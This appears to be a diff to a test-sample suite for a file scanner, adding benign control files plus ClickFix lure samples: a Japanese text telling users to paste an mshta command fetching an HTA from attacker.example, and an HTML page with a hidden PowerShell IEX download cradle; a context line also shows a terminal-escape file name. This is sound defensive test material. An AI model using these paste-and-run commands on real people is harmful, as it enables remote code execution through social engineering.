@@ -145,3 +145,29 @@ _script_sample(
 @sample("txt_control_chars_in_name", "\x1b[2J\r.txt", "script-name", "terminal escape and CR in a file name (log/console injection)")
 def txt_control_chars_in_name(work: Path) -> bytes:
     return "お知らせ\r\n".encode()
+
+
+@sample("csv_benign_table_markers", ".csv", "control",
+        "Japanese table with '-' and '－' for none, dates and quoted amounts", Expect.RELEASED)
+def csv_benign_table_markers(work: Path) -> bytes:
+    return (HEADER + "山田,-,なし\r\n佐藤,－,2026/11/28\r\n鈴木,\"1,200\",-3.5\r\n").encode("cp932")
+
+
+@sample("txt_benign_english_prose", ".txt", "control", "English prose with 'set up', 'start' and 'delete'", Expect.RELEASED)
+def txt_benign_english_prose(work: Path) -> bytes:
+    return b"Please set up the room before we start.\r\nDelete the old drafts after the meeting.\r\nDim lights at 18:00.\r\n"
+
+
+_script_sample(
+    "txt_clickfix_mshta", "認証エラーを直すには、Win+R を押して次を貼り付けてください:\r\nmshta https://attacker.example/verify.hta\r\n",
+    "ClickFix lures (Proofpoint 2024): paste-and-run mshta one-liner",
+)
+
+
+@sample("html_clickfix_powershell", ".html", "script-text", "ClickFix page whose visible text is a PowerShell cradle")
+def html_clickfix_powershell(work: Path) -> bytes:
+    return (
+        "<html><body><h1>確認してください</h1><p>PowerShell に貼り付けて実行:</p>"
+        "<pre>powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://attacker.example/a')\"</pre>"
+        "</body></html>"
+    ).encode()
